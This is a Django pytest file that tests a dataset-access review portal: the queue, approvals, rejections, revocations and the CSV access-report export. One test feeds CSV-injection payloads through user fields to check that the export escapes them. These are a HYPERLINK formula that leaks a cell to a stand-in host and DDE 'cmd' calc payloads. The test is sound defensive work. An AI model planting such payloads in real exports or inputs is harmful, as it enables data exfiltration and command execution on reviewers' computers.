import csv
import io
import json
import re
from datetime import datetime, time, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from datasets_app.models import AccessRequest, Grant
from datasets_app.review_views import REPORT_COLUMNS
from datasets_app.services import access_request_approve, access_request_reject, grant_create
from portal.models import AuditEvent
from tests.conftest import apply, client_for, make_user
from tests.datasets_app.conftest import actions_since, assert_audit_chain_intact, last_seq, shown_messages

QUEUE = reverse("review_queue")
BULK = reverse("review_bulk")


@pytest.fixture
def queue(cast):
    """Pending requests with known submission times: alice, pending, carol on A; bob on B."""
    now = timezone.now()
    requests = {"pending": cast.requests["pending"]}
    for name, resource in (("alice", cast.resource_a), ("bob", cast.resource_b), ("carol", cast.resource_a)):
        user, _ = make_user(name)
        requests[name] = apply(user, resource)
    for name, days_ago in (("bob", 4), ("alice", 3), ("pending", 2), ("carol", 1)):
        AccessRequest.objects.filter(pk=requests[name].pk).update(submitted_at=now - timedelta(days=days_ago))
    return requests


def listed(response) -> list[str]:
    """Usernames in the order the table shows them."""
    table = response.content.decode().split('id="queue"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<div class="muted">([\w.-]+)</div>', table)


def detail_url(access_request):
    return reverse("review_detail", kwargs={"pk": access_request.pk})


def test_it_lists_pending_requests_oldest_first(client, cast, queue):
    response = client_for(client, cast, "reviewer_a").get(QUEUE)

    assert response.status_code == 200
    assert listed(response) == ["alice", "pending", "carol"]


def test_it_filters_by_resource_and_by_status(client, cast, queue):
    client_for(client, cast, "admin")

    assert listed(client.get(QUEUE)) == ["bob", "alice", "pending", "carol"]
    assert listed(client.get(QUEUE, {"resource": cast.resource_b.pk})) == ["bob"]
    assert listed(client.get(QUEUE, {"resource": cast.resource_a.pk, "status": "rejected"})) == ["rejected"]
    assert listed(client.get(QUEUE, {"status": "approved"})) == ["granted", "revoked", "expired"]
    everything = listed(client.get(QUEUE, {"status": "all", "resource": cast.resource_a.pk}))
    assert sorted(everything) == ["alice", "carol", "expired", "granted", "pending", "rejected", "revoked"]


def test_it_shows_a_reviewer_only_the_resources_they_review(client, cast, queue):
    assert listed(client_for(client, cast, "reviewer_b").get(QUEUE, {"resource": cast.resource_a.pk})) == []
    assert listed(client.get(QUEUE)) == ["bob"]
    assert client.get(detail_url(queue["alice"])).status_code == 404


def test_it_shows_the_profile_the_answers_and_the_history_on_the_detail_page(client, cast):
    profile = cast.rejected.profile
    profile.orcid = "0000-0002-1825-0097"
    profile.save()
    again = apply(cast.rejected, cast.resource_a, intended_use="Auditing the corpus for personal data, results shared with the committee.")

    page = client_for(client, cast, "reviewer_a").get(detail_url(again)).content.decode()

    for shown in ("Rejected", "Example University", "Researcher", "France", "0000-0002-1825-0097",
                  "rejected@example.org", "Auditing the corpus for personal data", "Sector", "Academia",
                  "Test Data License v1.0", cast.license_version.sha256[:24]):
        assert shown in page, shown
    history = page.split("History of this applicant", 1)[1]
    assert "Intended use is outside the license." in history and "reviewer_a" in history
    assert 'value="approve"' in page and 'value="reject"' in page and 'value="changes"' in page
    assert 'id="scope-count"' not in page  # nothing published yet: no "0 of the 0 configs"


def test_it_names_the_country_a_question_was_answered_with_as_the_profile_does(client, cast):
    pending = cast.requests["pending"]
    AccessRequest.objects.filter(pk=pending.pk).update(answers=[
        {"question_id": 0, "question": "Country where the data will be processed", "kind": "country", "answer": "PT"}])

    page = client_for(client, cast, "reviewer_a").get(detail_url(pending)).content.decode()

    assert "<dt>Country where the data will be processed</dt><dd>Portugal</dd>" in page
    assert "<dt>Country</dt><dd>France</dd>" in page


def test_it_approves_with_the_expiry_the_reviewer_chose(client, cast):
    day = timezone.localdate() + timedelta(days=30)
    client_for(client, cast, "reviewer_a")
    seq = last_seq()

    response = client.post(detail_url(cast.requests["pending"]), {"action": "approve", "expires_on": day.isoformat(), "note": "Enjoy."})

    assert response.status_code == 302 and response.url == QUEUE
    assert f"Approved pending for test/corpus-a until {day:%d %B %Y}." in shown_messages(response)
    grant = Grant.objects.get(user=cast.pending, resource=cast.resource_a)
    assert grant.expires_at == timezone.make_aware(datetime.combine(day, time(23, 59, 59)))
    assert grant.request.decision_reason == "Enjoy."
    assert actions_since(seq) == ["request_approved"]
    assert_audit_chain_intact()


def test_it_offers_the_resources_default_period_on_the_approve_form(client, cast):
    page = client_for(client, cast, "reviewer_a").get(detail_url(cast.requests["pending"])).content.decode()

    assert (timezone.localdate() + timedelta(days=365)).isoformat() in page


def test_it_refuses_an_approval_dated_in_the_past(client, cast):
    yesterday = timezone.localdate() - timedelta(days=1)

    response = client_for(client, cast, "reviewer_a").post(detail_url(cast.requests["pending"]), {"action": "approve", "expires_on": yesterday.isoformat()})

    assert response.status_code == 200
    assert "Expires on: choose a date after today." in response.content.decode()
    assert AccessRequest.objects.get(pk=cast.requests["pending"].pk).status == AccessRequest.Status.PENDING


def test_it_requires_a_reason_to_reject(client, cast):
    client_for(client, cast, "reviewer_a")

    refused = client.post(detail_url(cast.requests["pending"]), {"action": "reject", "reason": "  "})
    assert refused.status_code == 200
    assert "Reason: say why; the applicant will read it." in refused.content.decode()
    assert AccessRequest.objects.get(pk=cast.requests["pending"].pk).status == AccessRequest.Status.PENDING

    done = client.post(detail_url(cast.requests["pending"]), {"action": "reject", "reason": "No institutional affiliation."})
    assert done.status_code == 302
    assert "Rejected the request of pending for test/corpus-a." in shown_messages(done)
    rejected = AccessRequest.objects.get(pk=cast.requests["pending"].pk)
    assert rejected.status == AccessRequest.Status.REJECTED and rejected.decision_reason == "No institutional affiliation."


def test_it_asks_for_changes(client, cast):
    response = client_for(client, cast, "reviewer_a").post(detail_url(cast.requests["pending"]), {"action": "changes", "reason": "Which project is this for?"})

    assert response.status_code == 302
    assert "Asked pending for changes." in shown_messages(response)
    asked = AccessRequest.objects.get(pk=cast.requests["pending"].pk)
    assert asked.status == AccessRequest.Status.CHANGES_REQUESTED and asked.decision_reason == "Which project is this for?"


def test_it_tells_the_second_reviewer_the_request_was_already_decided(client, cast):
    access_request_approve(access_request=cast.requests["pending"], reviewer=cast.reviewer_a, expires_at=timezone.now() + timedelta(days=30))

    response = client_for(client, cast, "admin").post(detail_url(cast.requests["pending"]), {"action": "reject", "reason": "Too broad."}, follow=True)

    assert response.redirect_chain == [(detail_url(cast.requests["pending"]), 302)]
    assert "This request was already decided (approved) by reviewer_a; reload the queue." in response.content.decode()
    assert AccessRequest.objects.get(pk=cast.requests["pending"].pk).status == AccessRequest.Status.APPROVED
    assert Grant.objects.get(user=cast.pending).status == Grant.Status.ACTIVE


def test_it_bulk_approves_with_each_resources_default_period(client, cast, queue):
    client_for(client, cast, "admin")
    seq = last_seq()

    response = client.post(BULK, {"action": "approve", "requests": [queue["alice"].pk, queue["bob"].pk]})

    assert response.status_code == 302 and response.url == QUEUE
    assert "Approved 2 requests." in shown_messages(response)
    for name, days in (("alice", 365), ("bob", cast.resource_b.default_grant_days)):
        grant = Grant.objects.get(request=queue[name])
        assert abs(grant.expires_at - (timezone.now() + timedelta(days=days))) < timedelta(minutes=1)
    assert actions_since(seq) == ["request_approved", "request_approved"]
    assert listed(client.get(QUEUE)) == ["pending", "carol"]


def test_it_bulk_rejects_only_with_a_reason(client, cast, queue):
    client_for(client, cast, "reviewer_a")
    selected = [queue["alice"].pk, queue["carol"].pk]

    refused = client.post(BULK, {"action": "reject", "requests": selected, "reason": ""})
    assert "Reason: a bulk rejection needs a reason; every applicant will read it." in shown_messages(refused)
    assert AccessRequest.objects.filter(pk__in=selected, status=AccessRequest.Status.PENDING).count() == 2

    done = client.post(BULK, {"action": "reject", "requests": selected, "reason": "The call closed on 1 May."})
    assert "Rejected 2 requests." in shown_messages(done)
    assert set(AccessRequest.objects.filter(pk__in=selected).values_list("status", "decision_reason")) == {("rejected", "The call closed on 1 May.")}


def test_it_explains_a_bulk_selection_that_another_reviewer_decided_meanwhile(client, cast, queue):
    client_for(client, cast, "admin")
    access_request_approve(access_request=queue["alice"], reviewer=cast.reviewer_a, expires_at=timezone.now() + timedelta(days=30))

    response = client.post(BULK, {"action": "reject", "requests": [queue["alice"].pk, queue["carol"].pk], "reason": "Closed."})

    assert shown_messages(response) == [
        f"Request {queue['alice'].pk} is no longer pending (another reviewer decided it) or is not yours to review. "
        "Nothing was changed; reload the queue and select again."
    ]
    assert AccessRequest.objects.get(pk=queue["carol"].pk).status == AccessRequest.Status.PENDING
    assert AccessRequest.objects.get(pk=queue["alice"].pk).status == AccessRequest.Status.APPROVED


def test_it_revokes_a_grant_with_a_reason(client, cast):
    grant = cast.grants["granted"]
    revoke_url = reverse("review_revoke", kwargs={"pk": grant.pk})
    client_for(client, cast, "reviewer_a")
    grants_page = client.get(reverse("review_grants")).content.decode()
    assert "Granted" in grants_page and revoke_url in grants_page

    refused = client.post(revoke_url, {"reason": ""})
    assert refused.status_code == 200 and "Reason: say why; the applicant will read it." in refused.content.decode()
    assert Grant.objects.get(pk=grant.pk).status == Grant.Status.ACTIVE

    done = client.post(revoke_url, {"reason": "Left the consortium."})
    assert done.status_code == 302 and done.url == reverse("review_grants")
    assert "Revoked the access of granted to test/corpus-a." in shown_messages(done)
    grant.refresh_from_db()
    assert grant.status == Grant.Status.REVOKED and grant.end_reason == "Left the consortium." and grant.ended_by == cast.reviewer_a
    again = client.post(revoke_url, {"reason": "Twice."})
    assert "This grant is no longer active (revoked)." in shown_messages(again)


def report_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_it_exports_an_access_report_with_every_request_and_direct_grant(client, cast):
    grant_create(user=cast.stranger, resource=cast.resource_a, granted_by=cast.admin, expires_at=None, reason="Workshop speaker")
    client_for(client, cast, "reviewer_a")
    seq = last_seq()

    response = client.get(reverse("review_report", kwargs={"namespace": "test", "slug": "corpus-a"}))

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="access-report-test-corpus-a-\d{8}\.csv"', response["Content-Disposition"])
    assert response.content.decode().splitlines()[0] == ",".join(REPORT_COLUMNS)
    assert REPORT_COLUMNS == [
        "username", "full_name", "email", "affiliation", "country", "orcid", "request_status", "submitted_at",
        "decided_at", "decided_by", "decision_reason", "grant_status", "grant_expires_at", "license_version",
        "license_sha256", "intended_use", "answers", "configs_asked", "configs_approved",
    ]
    rows = {row["username"]: row for row in report_rows(response)}
    assert sorted(rows) == ["expired", "granted", "pending", "rejected", "revoked", "stranger"]
    granted = rows["granted"]
    assert (granted["full_name"], granted["email"], granted["affiliation"], granted["country"]) == ("Granted", "granted@example.org", "Example University", "FR")
    assert (granted["request_status"], granted["decided_by"], granted["grant_status"]) == ("approved", "reviewer_a", "active")
    assert granted["license_version"] == "Test Data License v1.0" and granted["license_sha256"] == cast.license_version.sha256
    assert granted["intended_use"].startswith("Training multilingual evaluation baselines")
    sector = cast.resource_a.questions.get()
    assert json.loads(granted["answers"]) == [{"question_id": sector.pk, "question": "Sector", "kind": "choice", "answer": "Academia"}]
    assert (rows["rejected"]["request_status"], rows["rejected"]["decision_reason"], rows["rejected"]["grant_status"]) == ("rejected", "Intended use is outside the license.", "")
    assert (rows["revoked"]["grant_status"], rows["expired"]["grant_status"], rows["pending"]["decided_at"]) == ("revoked", "expired", "")
    stranger = rows["stranger"]
    assert (stranger["request_status"], stranger["decided_by"], stranger["decision_reason"], stranger["grant_status"]) == ("granted_directly", "admin", "Workshop speaker", "active")
    assert actions_since(seq) == ["report_exported"]
    assert AuditEvent.objects.get(seq=seq + 1).data == {"rows": 6}
    assert_audit_chain_intact()


def test_it_escapes_spreadsheet_formulas_that_applicants_typed(client, cast):
    mallory, _ = make_user("mallory", full_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    mallory.profile.affiliation = "+1+cmd|' /C calc'!A0"
    mallory.profile.save()
    apply(mallory, cast.resource_a, intended_use="@SUM(1+1)*cmd|' /C calc'!A0")

    access_request_reject(access_request=AccessRequest.objects.get(user=mallory), reviewer=cast.reviewer_a, reason="-2+3 is not a use")

    rows = report_rows(client_for(client, cast, "reviewer_a").get(reverse("review_report", kwargs={"namespace": "test", "slug": "corpus-a"})))
    [row] = [r for r in rows if r["username"] == "mallory"]
    assert row["full_name"] == """'=HYPERLINK("http://evil.example/?x="&A1,"Click")"""
    assert row["affiliation"] == "'+1+cmd|' /C calc'!A0"
    assert row["intended_use"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["decision_reason"] == "'-2+3 is not a use"
    # Ordinary values are left alone.
    assert [r for r in rows if r["username"] == "granted"][0]["full_name"] == "Granted"


def test_it_refuses_the_report_of_a_resource_the_reviewer_does_not_review(client, cast):
    response = client_for(client, cast, "reviewer_b").get(reverse("review_report", kwargs={"namespace": "test", "slug": "corpus-a"}))

    assert response.status_code == 404
